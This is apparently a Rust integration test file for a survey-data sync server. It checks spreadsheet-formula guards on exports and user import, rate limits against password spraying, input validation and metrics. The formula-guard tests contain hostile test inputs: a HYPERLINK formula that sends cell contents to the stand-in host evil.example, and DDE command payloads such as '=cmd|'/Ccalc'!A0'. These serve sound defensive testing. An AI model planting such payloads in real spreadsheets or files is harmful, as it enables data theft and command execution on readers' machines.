//! The trust edge of the server, over real HTTP on loopback (and the real
//! binary for the CLI): what leaves it for spreadsheets (the exports' and
//! `admin import-users`' formula guard), what it accepts (paging bounds, JSON
//! errors for every rejection, tags), what it says about itself (content types
//! against the OpenAPI document, health under load, metrics), and the login
//! rate limits.
#![allow(clippy::unwrap_used)]

use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use central_store::Role;
use fieldvoice_tests::complete_answers;
use fieldvoice_tests::dashboard::{client, post_login, user_with_password};
use fieldvoice_tests::server::{Device, TestServer, server_binary};
use serde_json::{Value, json};
use sync_server::Settings;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Run `tests/python/read_tables.py KIND PATH` and parse its JSON; `None`
/// (after printing why) where Python's readers are not installed.
fn read_tables(kind: &str, path: &Path) -> Option<Value> {
    fieldvoice_tests::needs::run_python_json("read_tables.py", &[kind.as_ref(), path.as_os_str()])
}

/// The exports' rule, as an analyst applies it: drop the one `'` the guard
/// added in front of text that (after any quotes) starts with = + - @ TAB CR.
fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest)
            if rest
                .trim_start_matches('\'')
                .starts_with(['=', '+', '-', '@', '\t', '\r']) =>
        {
            rest
        }
        _ => cell,
    }
}

async fn create(dev: &Device, answers: &[(&'static str, Value)]) -> uuid::Uuid {
    let form = dev.lock().form("mcmb-interview", None).unwrap();
    let mut s = dev.lock();
    let mut iv = s.create_interview(&form).unwrap();
    for (k, v) in answers {
        iv.set_answer_json(&form, k, v).unwrap();
    }
    iv.submit(&form).unwrap();
    s.save(&mut iv, Some(&form)).unwrap();
    iv.id()
}

/// Complete answers with some overridden.
fn answers(nps: i64, extra: &[(&'static str, Value)]) -> Vec<(&'static str, Value)> {
    survey_model::sample::with(complete_answers(nps), extra)
}

/// A server with one synced interview by an employee of CI; returns the
/// server, the device and the interview id.
async fn one_interview(
    settings: Settings,
    extra: &[(&'static str, Value)],
) -> (TestServer, Device, uuid::Uuid) {
    let srv = TestServer::start_with(settings).await;
    let (_, code) = srv.user_with_code("emp.ci", Role::Employee, "CI");
    let dev = srv.device("ci", &code).await;
    let id = create(&dev, &answers(9, extra)).await;
    assert_eq!(dev.sync().await.unwrap().docs_acknowledged, 1);
    (srv, dev, id)
}

async fn get(url: &str, token: &str) -> reqwest::Response {
    reqwest::Client::new()
        .get(url)
        .bearer_auth(token)
        .send()
        .await
        .unwrap()
}

/// The response is the API's JSON error with `status`; returns the message.
async fn json_error(resp: reqwest::Response, status: u16, what: &str) -> String {
    assert_eq!(resp.status().as_u16(), status, "{what}");
    let ct = resp
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default();
    let text = resp.text().await.unwrap();
    assert!(
        ct.starts_with("application/json"),
        "{what}: content type {ct:?}, body {text:?}"
    );
    let v: Value = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{what}: {e}: {text}"));
    v["error"]
        .as_str()
        .unwrap_or_else(|| panic!("{what}: no error key in {text}"))
        .to_owned()
}

/// `fieldvoice_<name>` from the Prometheus text of `/metrics`.
async fn metric(url: &str, name: &str) -> f64 {
    let text = reqwest::get(format!("{url}/metrics"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let line = text
        .lines()
        .find(|l| l.split([' ', '{']).next() == Some(&format!("fieldvoice_{name}")))
        .unwrap_or_else(|| panic!("no fieldvoice_{name} in\n{text}"));
    line.rsplit(' ').next().unwrap().parse().unwrap()
}

// ---------------------------------------------------------------------------
// A. Formula guard of exports and of the import-users CLI.

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_and_xlsx_exports_neutralise_formulas_and_values_round_trip() {
    let texts = [
        ("verbatim", HYPERLINK),
        ("nps_reason", "-2+3 pas content"),
        ("complaint_detail", "@SUM(1+1)"),
        ("customer_name", "'=déjà entre quotes"),
    ];
    let extra: Vec<(&'static str, Value)> = texts.iter().map(|(q, t)| (*q, json!(t))).collect();
    let (srv, _dev, id) = one_interview(Settings::default(), &extra).await;
    let dir = tempfile::tempdir().unwrap();
    let url = &srv.url;
    let admin = &srv.admin_token;
    for format in ["csv", "xlsx"] {
        let resp = get(&format!("{url}/api/v1/export/{format}?pii=include"), admin).await;
        assert_eq!(resp.status(), 200);
        let path = dir.path().join(format!("interviews.{format}"));
        std::fs::write(&path, resp.bytes().await.unwrap()).unwrap();
    }

    // CSV, read by Python's csv module: each text guarded with one `'`,
    // which the analyst drops to get the value back.
    let raw = std::fs::read_to_string(dir.path().join("interviews.csv")).unwrap();
    assert!(
        !raw.contains(",=HYPERLINK") && !raw.contains(",\"=HYPERLINK"),
        "a formula starts a cell:\n{raw}"
    );
    let Some(t) = read_tables("csv", &dir.path().join("interviews.csv")) else {
        return;
    };
    let rows = t["rows"].as_array().unwrap();
    let header: Vec<&str> = rows[0]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap())
        .collect();
    let row = rows[1].as_array().unwrap();
    let cell = |name: &str| {
        row[header.iter().position(|h| *h == name).unwrap()]
            .as_str()
            .unwrap()
    };
    assert_eq!(cell("interview_id"), id.to_string());
    for (q, text) in texts {
        let written = cell(q);
        assert_eq!(written, format!("'{text}"), "{q}");
        assert_eq!(restore(written), text, "{q} round-trips");
    }
    // A phone number starting with + is text a spreadsheet would evaluate.
    assert_eq!(cell("customer_phone"), "'+225 07 12 34 56 78");
    // Text that triggers nothing is untouched; numbers stay numbers.
    assert_eq!(cell("city"), "Bouaké");
    assert_eq!(cell("nps"), "9");
    let pandas = &t["pandas"];
    assert_eq!(pandas["dtypes"]["nps"], "int64", "{pandas}");
    assert_eq!(pandas["dtypes"]["sat_network"], "int64");
    assert_eq!(pandas["records"][0]["verbatim"], format!("'{HYPERLINK}"));

    // XLSX, read by openpyxl: the value is exact, stored as text (never a
    // formula), with the quote-prefix style on guarded cells only.
    let Some(t) = read_tables("xlsx", &dir.path().join("interviews.xlsx")) else {
        return;
    };
    let sheet = t["sheets"]["interviews"].as_array().unwrap();
    let header: Vec<&str> = sheet[0]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["v"].as_str().unwrap())
        .collect();
    let row = sheet[1].as_array().unwrap();
    let cell = |name: &str| &row[header.iter().position(|h| *h == name).unwrap()];
    for (q, text) in texts {
        let c = cell(q);
        assert_eq!(c["v"], text, "{q}");
        assert_eq!(
            (c["t"].as_str(), c["q"].as_bool()),
            (Some("s"), Some(true)),
            "{q}: {c}"
        );
    }
    assert_eq!(cell("customer_phone")["q"], true);
    assert_eq!(cell("city")["q"], false);
    assert_eq!(
        (cell("nps")["v"].as_f64(), cell("nps")["t"].as_str()),
        (Some(9.0), Some("n"))
    );
    assert!(
        sheet
            .iter()
            .flat_map(|r| r.as_array().unwrap())
            .all(|c| c["t"] != "f"),
        "no formula cell anywhere"
    );

    // The manifest says so.
    let man: Value = get(&format!("{url}/api/v1/export/csv?part=manifest"), admin)
        .await
        .json()
        .await
        .unwrap();
    assert!(
        man["formula_guard"]
            .as_str()
            .unwrap()
            .contains("one more '"),
        "{man}"
    );
}

#[test]
fn import_users_cli_writes_quoted_formula_guarded_csv() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.sqlite3");
    let staff = dir.path().join("staff.csv");
    std::fs::write(
        &staff,
        "login,name,country\n\
         =cmd|'/Ccalc'!A0,\"Traoré, Awa \"\"la chef\"\"\",CI\n\
         @evil,=1+2,SN\n\
         plain.one,-Moussa,CI\n\
         =cmd|' /C calc'!A0,Spaces In Login,CI\n",
    )
    .unwrap();
    let out = Command::new(server_binary())
        .arg("--database")
        .arg(&db)
        .args(["admin", "import-users"])
        .arg(&staff)
        .env("FIELDVOICE_LOG", "warn")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    let printed = dir.path().join("codes.csv");
    std::fs::write(&printed, &stdout).unwrap();
    // No line starts a cell with a formula, the raw file included.
    for line in stdout.lines() {
        for bad in [",=", ",@", ",-", ",+", ",\"=", ",\"@"] {
            assert!(!line.contains(bad), "unguarded cell in {line:?}");
        }
    }
    let Some(t) = read_tables("csv", &printed) else {
        return;
    };
    let rows: Vec<Vec<String>> = serde_json::from_value(t["rows"].clone()).unwrap();
    assert_eq!(
        rows[0],
        ["line", "login", "name", "country", "enrollment_code"]
    );
    // The login with spaces is refused by the import (and never printed).
    assert_eq!(rows.len(), 4, "{rows:?}");
    let want = [
        ("2", "=cmd|'/Ccalc'!A0", "Traoré, Awa \"la chef\"", "CI"),
        ("3", "@evil", "=1+2", "SN"),
        ("4", "plain.one", "-Moussa", "CI"),
    ];
    for (row, (line, login, name, country)) in rows[1..].iter().zip(want) {
        assert_eq!(row.len(), 5, "{row:?}");
        assert_eq!(row[0], line);
        assert_eq!(restore(&row[1]), login);
        assert_eq!(restore(&row[2]), name);
        assert_eq!(row[3], country);
        assert_eq!(row[4].len(), 11, "a code: {row:?}");
        for c in &row[1..3] {
            assert!(
                !c.starts_with(['=', '+', '-', '@']),
                "a formula cell: {c:?}"
            );
        }
    }
    assert_eq!(rows[1][1], "'=cmd|'/Ccalc'!A0");
    assert_eq!(rows[1][2], "Traoré, Awa \"la chef\"", "quoted, not guarded");
}

// ---------------------------------------------------------------------------
// B1. Paging bounds.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn huge_and_negative_paging_parameters_are_400_json_not_500() {
    let (srv, _dev, _) = one_interview(Settings::default(), &[]).await;
    let (url, admin) = (&srv.url, &srv.admin_token);
    for q in [
        "interviews?offset=9223372036854775808",
        "interviews?offset=9223372036854775807",
        "interviews?offset=18446744073709551615",
        "interviews?offset=18446744073709551616",
        "interviews?offset=1000000001",
        "interviews?offset=-1",
        "interviews?limit=-5",
        "interviews?limit=99999999999999999999999",
        "review-queue?page=-1",
        "review-queue?page=18446744073709551616",
    ] {
        let resp = get(&format!("{url}/api/v1/{q}"), admin).await;
        json_error(resp, 400, q).await;
    }
    // In range: answered, empty beyond the end.
    let resp = get(&format!("{url}/api/v1/interviews?offset=1000000000"), admin).await;
    assert_eq!(resp.status(), 200);
    let v: Value = resp.json().await.unwrap();
    assert_eq!(
        (v["total"].as_u64(), v["items"].as_array().unwrap().len()),
        (Some(1), 0)
    );
    let resp = get(
        &format!("{url}/api/v1/interviews?offset=0&limit=5000"),
        admin,
    )
    .await;
    assert_eq!(resp.status(), 200);
    let resp = get(&format!("{url}/api/v1/review-queue?page=100000"), admin).await;
    assert_eq!(resp.status(), 200);
}

// ---------------------------------------------------------------------------
// B2. Every rejection on /api/v1 is the API's JSON error.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_rejection_on_the_api_is_a_json_error_with_its_status() {
    let settings = Settings {
        max_body_bytes: 64 * 1024,
        ..Settings::default()
    };
    let (srv, _dev, id) = one_interview(settings, &[]).await;
    let (url, admin) = (srv.url.clone(), srv.admin_token.clone());
    let http = reqwest::Client::new();
    let tags = format!("{url}/api/v1/interviews/{id}/tags");
    let post = |u: &str, ct: Option<&str>, body: &str| {
        let mut rb = http.post(u).bearer_auth(&admin).body(body.to_owned());
        if let Some(ct) = ct {
            rb = rb.header("content-type", ct);
        }
        rb.send()
    };
    let json_ct = Some("application/json");

    // Query strings, path parameters.
    json_error(
        get(&format!("{url}/api/v1/interviews?limit=abc"), &admin).await,
        400,
        "bad query",
    )
    .await;
    json_error(
        get(&format!("{url}/api/v1/stats?country=CI&country=SN"), &admin).await,
        400,
        "repeated key",
    )
    .await;
    json_error(
        get(&format!("{url}/api/v1/export/csv?since=x"), &admin).await,
        400,
        "bad since",
    )
    .await;
    json_error(
        get(&format!("{url}/api/v1/interviews/not-a-uuid"), &admin).await,
        400,
        "bad uuid",
    )
    .await;
    // JSON bodies: syntax (400), content type (415), shape (422).
    json_error(
        post(&tags, json_ct, "{\"tag\": ").await.unwrap(),
        400,
        "syntax",
    )
    .await;
    json_error(
        post(&tags, Some("text/plain"), "{\"tag\": \"x\"}")
            .await
            .unwrap(),
        415,
        "text/plain",
    )
    .await;
    json_error(
        post(&tags, None, "{\"tag\": \"x\"}").await.unwrap(),
        415,
        "no content type",
    )
    .await;
    json_error(
        post(&tags, json_ct, "{\"tag\": 5}").await.unwrap(),
        422,
        "wrong type",
    )
    .await;
    json_error(
        post(&tags, json_ct, "{}").await.unwrap(),
        422,
        "missing field",
    )
    .await;
    let review = format!("{url}/api/v1/interviews/{id}/review");
    json_error(
        post(&review, json_ct, "[]").await.unwrap(),
        422,
        "review array",
    )
    .await;
    // The same on the identity routes (enroll needs no token).
    let enroll = format!("{url}/api/v1/enroll");
    json_error(
        post(&enroll, json_ct, "{").await.unwrap(),
        400,
        "enroll syntax",
    )
    .await;
    json_error(
        post(&enroll, Some("text/plain"), "{}").await.unwrap(),
        415,
        "enroll type",
    )
    .await;
    json_error(
        post(&enroll, json_ct, "{\"code\": []}").await.unwrap(),
        422,
        "enroll shape",
    )
    .await;
    let users = format!("{url}/api/v1/users");
    json_error(
        post(&users, json_ct, "{\"login\": 1}").await.unwrap(),
        422,
        "users shape",
    )
    .await;
    // Unknown routes, wrong methods, bodies over the limit.
    json_error(
        get(&format!("{url}/api/v1/nothing-here"), &admin).await,
        404,
        "unknown route",
    )
    .await;
    let resp = http
        .delete(format!("{url}/api/v1/interviews"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap();
    assert!(resp.headers().contains_key("allow"), "405 keeps Allow");
    json_error(resp, 405, "wrong method").await;
    let big = "login,name,country\n".to_owned() + &"x,y,CI\n".repeat(20_000);
    let import = format!("{url}/api/v1/users/import");
    json_error(
        post(&import, Some("text/csv"), &big).await.unwrap(),
        413,
        "too large",
    )
    .await;
    // Dashboard pages keep their own (non-JSON) answers.
    let resp = http
        .get(format!("{url}/dashboard/interviews/not-a-uuid"))
        .send()
        .await
        .unwrap();
    assert_ne!(
        resp.headers()
            .get("content-type")
            .map(|v| v.to_str().unwrap()),
        Some("application/json")
    );
    // The OpenAPI document names 415 and 422 where a JSON body is read.
    let doc: Value = reqwest::get(format!("{url}/api/v1/openapi.json"))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let tag_op = &doc["paths"]["/api/v1/interviews/{id}/tags"]["post"]["responses"];
    for code in ["400", "413", "415", "422"] {
        assert!(tag_op.get(code).is_some(), "tags: no {code}");
    }
    assert!(
        doc["paths"]["/api/v1/interviews"]["get"]["responses"]
            .get("415")
            .is_none()
    );
}

// ---------------------------------------------------------------------------
// B3. Export content types match the OpenAPI document.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn export_and_report_content_types_match_the_openapi_document() {
    let (srv, _dev, _) = one_interview(Settings::default(), &[]).await;
    let (url, admin) = (&srv.url, &srv.admin_token);
    let doc: Value = reqwest::get(format!("{url}/api/v1/openapi.json"))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let ok = &doc["paths"]["/api/v1/export/{format}"]["get"]["responses"]["200"];
    let listed = ok["content"].as_object().unwrap();
    let by_format = ok["x-fieldvoice-content-types"].as_object().unwrap();
    let formats = doc["paths"]["/api/v1/export/{format}"]["get"]["parameters"][0]["schema"]["enum"]
        .as_array()
        .unwrap();
    assert_eq!(by_format.len(), formats.len());
    for f in formats {
        let f = f.as_str().unwrap();
        for part in ["data", "dictionary", "manifest"] {
            let resp = get(&format!("{url}/api/v1/export/{f}?part={part}"), admin).await;
            assert_eq!(resp.status(), 200, "{f} {part}");
            let got = resp.headers()["content-type"].to_str().unwrap().to_owned();
            assert_eq!(by_format[f][part], got, "{f} {part}");
            assert!(listed.contains_key(&got), "{got} not in {listed:?}");
        }
    }
    let report = doc["paths"]["/api/v1/report"]["get"]["responses"]["200"]["content"]
        .as_object()
        .unwrap();
    for format in ["html", "json"] {
        let resp = get(&format!("{url}/api/v1/report?format={format}"), admin).await;
        assert_eq!(resp.status(), 200);
        let got = resp.headers()["content-type"].to_str().unwrap().to_owned();
        assert!(
            report.contains_key(&got),
            "report {format}: {got} not in {report:?}"
        );
    }
    let resp = reqwest::get(format!("{url}/metrics")).await.unwrap();
    let got = resp.headers()["content-type"].to_str().unwrap().to_owned();
    let metrics = &doc["paths"]["/metrics"]["get"]["responses"]["200"]["content"];
    assert!(metrics.get(&got).is_some(), "metrics {got}: {metrics}");
}

// ---------------------------------------------------------------------------
// B4. Password spraying from one address.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_address_spraying_many_logins_is_rate_limited() {
    let srv = TestServer::start_with(Settings {
        login_per_minute: 100,
        login_per_address_per_minute: 5,
        ..Settings::default()
    })
    .await;
    user_with_password(
        &srv,
        "coord.ci",
        Role::Coordinator,
        "CI",
        "right-password-1",
    );
    let http = client();
    // One password against five different logins: each gets its own
    // per-login budget, but the address is spent.
    for i in 0..5 {
        let r = post_login(&http, &srv.url, &format!("user{i}"), "Winter2026!").await;
        assert_eq!(r.status(), 401, "attempt {i}");
    }
    let r = post_login(&http, &srv.url, "user5", "Winter2026!").await;
    assert_eq!(r.status(), 429, "sixth login from the same address");
    // Even a right password waits: the address learns nothing more.
    let r = post_login(&http, &srv.url, "coord.ci", "right-password-1").await;
    assert_eq!(r.status(), 429);
}

// ---------------------------------------------------------------------------
// B5. Tags: the raw input is checked before lower-casing.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn non_ascii_tags_are_refused_before_lower_casing() {
    let (srv, _dev, id) = one_interview(Settings::default(), &[]).await;
    let http = reqwest::Client::new();
    let tag = |t: &str| {
        http.post(format!("{}/api/v1/interviews/{id}/tags", srv.url))
            .bearer_auth(&srv.admin_token)
            .json(&json!({ "tag": t }))
            .send()
    };
    // U+212A KELVIN SIGN lower-cases to an ASCII `k`; U+0130 to `i̇`.
    for bad in [
        "\u{212A}pi",
        "root_cause:networ\u{212A}",
        "\u{130}t",
        "caf\u{e9}",
    ] {
        json_error(tag(bad).await.unwrap(), 400, bad).await;
    }
    let r = tag("Root_Cause:KPI").await.unwrap();
    assert_eq!(r.status(), 200);
    let rec: Value = r.json().await.unwrap();
    assert_eq!(rec["tags"], json!(["root_cause:kpi"]));
}

// ---------------------------------------------------------------------------
// B6. argon2 stays off the async worker.

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn password_hashing_does_not_stall_other_requests() {
    // One async worker: anything slow run on it would hold every other
    // request (and this test's client) until it finishes.
    let srv = TestServer::start().await;
    let url = srv.url.clone();
    let admin = srv.admin_token.clone();
    let creates =
        tokio::spawn({
            let (url, admin) = (url.clone(), admin.clone());
            async move {
                let http = reqwest::Client::new();
                let mut took = Vec::new();
                for i in 0..3 {
                    let t = Instant::now();
                    let r = http
                    .post(format!("{url}/api/v1/users"))
                    .bearer_auth(&admin)
                    .json(&json!({ "login": format!("coord{i}"), "name": "C", "role": "coordinator",
                                   "countries": ["CI"], "password": "a-long-password-1" }))
                    .send()
                    .await
                    .unwrap();
                    assert_eq!(r.status(), 201);
                    took.push(t.elapsed());
                }
                took
            }
        });
    // Probe health in a loop; the gap between two probes (request and pause
    // alike) shows any time the runtime could not run this task.
    let http = reqwest::Client::new();
    let mut worst = Duration::ZERO;
    let mut probes = 0;
    let mut last = Instant::now();
    while !creates.is_finished() {
        let r = http.get(format!("{url}/healthz")).send().await.unwrap();
        assert_eq!(r.status(), 200);
        tokio::time::sleep(Duration::from_millis(5)).await;
        worst = worst.max(last.elapsed());
        last = Instant::now();
        probes += 1;
    }
    let took = creates.await.unwrap();
    let fastest = took.iter().min().copied().unwrap();
    eprintln!(
        "user creations with argon2 took {took:?}; {probes} health probes, worst gap {worst:?}"
    );
    assert!(probes >= 3, "health probes ran while passwords were hashed");
    // Had a hash run on the only async worker, the runtime would have stood
    // still for about one whole creation.
    assert!(
        worst < fastest / 2,
        "the runtime stood still {worst:?} while a creation took {fastest:?}"
    );
}

// ---------------------------------------------------------------------------
// B7. /healthz under a saturated merge semaphore.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn healthz_answers_while_every_merge_permit_is_held() {
    let srv = TestServer::start_with(Settings {
        merge_concurrency: 1,
        ..Settings::default()
    })
    .await;
    let held = srv
        .state
        .merge_permits
        .clone()
        .acquire_many_owned(1)
        .await
        .unwrap();
    assert_eq!(srv.state.merge_permits.available_permits(), 0);
    // Store work waits for a permit...
    let waiting = reqwest::Client::new()
        .get(format!("{}/api/v1/interviews", srv.url))
        .bearer_auth(&srv.admin_token)
        .timeout(Duration::from_millis(500))
        .send()
        .await;
    assert!(
        waiting.is_err_and(|e| e.is_timeout()),
        "the semaphore is saturated"
    );
    // ...health does not.
    let t = Instant::now();
    let r = reqwest::Client::new()
        .get(format!("{}/healthz", srv.url))
        .timeout(Duration::from_secs(5))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["status"], "ok");
    assert!(t.elapsed() < Duration::from_secs(2), "{:?}", t.elapsed());
    drop(held);
}

// ---------------------------------------------------------------------------
// B8. Metrics: in_flight comes back to zero; bundles received are counted.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn in_flight_returns_to_zero_after_a_timeout_and_a_vanished_client() {
    let timeout = Duration::from_secs(1);
    let srv = TestServer::start_with(Settings {
        request_timeout: timeout,
        merge_concurrency: 1,
        ..Settings::default()
    })
    .await;
    let addr = srv.url.trim_start_matches("http://").to_owned();
    // The scrape is a request too: an idle server shows 1.
    assert_eq!(metric(&srv.url, "http_in_flight").await, 1.0);

    // A body trickled slower than the request timeout: 408.
    let mut s = TcpStream::connect(&addr).await.unwrap();
    let body = br#"{"code": "ABCDE-FGHJK", "device_label": "slow phone"}"#;
    let head = format!(
        "POST /api/v1/enroll HTTP/1.1\r\nhost: {addr}\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    s.write_all(head.as_bytes()).await.unwrap();
    s.write_all(&body[..3]).await.unwrap();
    let mut resp = Vec::new();
    let mut chunk = [0u8; 1024];
    while !resp.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = tokio::time::timeout(Duration::from_secs(10), s.read(&mut chunk))
            .await
            .expect("an answer within the timeout")
            .unwrap();
        assert!(n > 0, "closed without an answer");
        resp.extend_from_slice(&chunk[..n]);
    }
    assert!(String::from_utf8_lossy(&resp).starts_with("HTTP/1.1 408"));
    drop(s);
    assert_eq!(metric(&srv.url, "http_in_flight").await, 1.0, "after a 408");

    // A client that goes away while its request waits for a merge permit:
    // the request future is dropped unfinished.
    let held = srv
        .state
        .merge_permits
        .clone()
        .acquire_many_owned(1)
        .await
        .unwrap();
    let mut s = TcpStream::connect(&addr).await.unwrap();
    let req = format!(
        "GET /api/v1/interviews HTTP/1.1\r\nhost: {addr}\r\nauthorization: Bearer {}\r\n\r\n",
        srv.admin_token
    );
    s.write_all(req.as_bytes()).await.unwrap();
    let deadline = Instant::now() + Duration::from_secs(5);
    while metric(&srv.url, "http_in_flight").await < 2.0 {
        assert!(
            Instant::now() < deadline,
            "the waiting request never showed"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    drop(s);
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let n = metric(&srv.url, "http_in_flight").await;
        if n == 1.0 {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "in_flight stuck at {n} after the client left"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    drop(held);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sync_bundles_received_counts_pushed_documents_with_changes() {
    let srv = TestServer::start().await;
    let (_, code) = srv.user_with_code("emp.m", Role::Employee, "CI");
    let dev = srv.device("m", &code).await;
    assert_eq!(metric(&srv.url, "sync_bundles_received_total").await, 0.0);
    create(&dev, &answers(8, &[])).await;
    create(&dev, &answers(3, &[])).await;
    let first = dev.sync().await.unwrap();
    assert_eq!(first.docs_acknowledged, 2);
    assert_eq!(metric(&srv.url, "sync_bundles_received_total").await, 2.0);
    // Every change the device sent was new to the server, and is counted.
    assert!(first.changes_sent > 2);
    assert_eq!(
        metric(&srv.url, "sync_changes_received_total").await,
        first.changes_sent as f64
    );
    // Nothing new: nothing pushed, nothing counted.
    dev.sync().await.unwrap();
    assert_eq!(metric(&srv.url, "sync_bundles_received_total").await, 2.0);
    assert_eq!(
        metric(&srv.url, "sync_changes_received_total").await,
        first.changes_sent as f64
    );
    let applied = reqwest::get(format!("{}/metrics", srv.url))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        applied.contains("fieldvoice_sync_documents_total{status=\"applied\"} 2"),
        "{applied}"
    );
}
